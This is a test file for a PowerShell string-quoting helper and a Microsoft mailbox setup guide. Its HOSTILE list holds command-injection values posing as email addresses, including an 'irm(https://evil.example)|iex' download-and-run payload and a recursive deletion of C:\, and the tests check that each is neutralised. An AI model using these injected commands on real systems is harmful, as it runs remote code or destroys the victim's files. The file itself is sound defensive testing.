import { describe, expect, it } from "vitest";
import { microsoftGuide } from "../../src/email-provider/kinds/microsoft/guide.ts";
import { psQuote } from "../../src/email-provider/kinds/microsoft/powershell.ts";

/**
 * PowerShell reads five characters as a single quote (U+0027 and U+2018–U+201B); inside a verbatim
 * string any two of them in a row are one literal quote. A reader of that grammar, to check the output.
 */
const QUOTE = /['\u2018\u2019\u201A\u201B]/;
function readVerbatimString(source: string): { value: string; rest: string } {
  if (!QUOTE.test(source[0] ?? "")) throw new Error("not a single-quoted string");
  let value = "";
  for (let i = 1; i < source.length; i++) {
    const c = source[i]!;
    if (!QUOTE.test(c)) {
      value += c;
      continue;
    }
    if (QUOTE.test(source[i + 1] ?? "")) {
      value += c;
      i++;
      continue;
    }
    return { value, rest: source.slice(i + 1) };
  }
  throw new Error("unterminated string");
}

const HOSTILE = [
  "plain@contoso.com",
  "o'brien@contoso.com",
  "a';irm(https://evil.example)|iex;'@contoso.com",
  "a’;irm(https://evil.example)|iex;’@contoso.com",
  "a‘;Remove-Item -Recurse C:\\;‘",
  "a‚;calc;‚",
  "a‛;calc;‛",
  "’’’",
  "'’‘‚‛",
  "$(Invoke-Expression 'calc')",
  "`$env:PATH`",
  '"; calc; "',
  "",
];

describe("PowerShell quoting", () => {
  it.each(HOSTILE)("%j is one verbatim string that reads back as itself", (value) => {
    const quoted = psQuote(value);
    const { value: read, rest } = readVerbatimString(quoted);
    expect(read).toBe(value);
    expect(rest).toBe("");
  });

  it("keeps a guide command one argument whatever the sender email", () => {
    for (const senderEmail of HOSTILE.filter(Boolean)) {
      const steps = microsoftGuide({ senderEmail, clientId: "0f3c5a9e-2b1d-4c7a-9e8f-1a2b3c4d5e6f" }).steps;
      const commands = steps.flatMap((s) => s.commands ?? []).map((c) => c.command);
      const permission = commands.find((c) => c.startsWith("Add-MailboxPermission"))!;
      const afterIdentity = permission.slice(permission.indexOf("-Identity ") + "-Identity ".length);
      const { value, rest } = readVerbatimString(afterIdentity);
      expect(value).toBe(senderEmail);
      expect(rest).toMatch(/^ -User /);
    }
  });
});
